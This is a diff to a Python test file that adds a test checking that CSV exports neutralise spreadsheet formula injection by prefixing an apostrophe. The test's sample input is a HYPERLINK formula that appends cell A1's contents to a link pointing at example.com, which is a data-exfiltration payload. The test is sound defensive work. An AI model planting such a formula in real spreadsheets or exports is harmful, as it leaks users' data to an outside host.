@@ -13,6 +13,7 @@ import pytest
 import sqlalchemy as sa
 
 from t2onet.data import open_dataset
+from t2onet.data.spreadsheet import from_csv
 from t2onet.errors import OutputError, StudyError
 from t2onet.studies import people
 from t2onet.studies.annotation import annotate, next_annotation_page, tidy
@@ -243,6 +244,24 @@ def test_the_table_of_all_requests(store: Store, tmp_path: Path) -> None:
     assert tuple(rows[0]) == REQUEST_COLUMNS
     assert [row["request"] for row in rows] == [f"make it brighter, {n}" for n in range(3)]
     assert [row["review"] for row in rows] == ["rejected", "pending", "pending"]
+
+
+HOSTILE = '=HYPERLINK("http://example.com/?"&A1,"open")'
+
+
+def test_a_formula_is_exported_as_text_and_read_back_as_it_was(store: Store, tmp_path: Path) -> None:
+    study = annotation_study(store, tmp_path / "in", 1, AnnotationSettings(requests=1, qualification=0))
+    token = people.add(store, study, "Mallory")
+    page = next_annotation_page(store, token)
+    assert page is not None
+    annotate(store, token, page.page, HOSTILE)
+    text = requests_csv(store, study)
+    (row,) = csv.DictReader(io.StringIO(text))
+    assert row["request"] == f"'{HOSTILE}"
+    assert from_csv(text)[0]["request"] == HOSTILE
+    export_pairs(store, study, tmp_path / "out")
+    assert "\"'=HYPERLINK" in (tmp_path / "out" / "requests.csv").read_text(encoding="utf-8")
+    assert open_dataset(tmp_path / "out").samples[0].requests == (HOSTILE,)
 
 
 def test_a_dataset_of_another_layout_will_do(store: Store, tmp_path: Path) -> None:
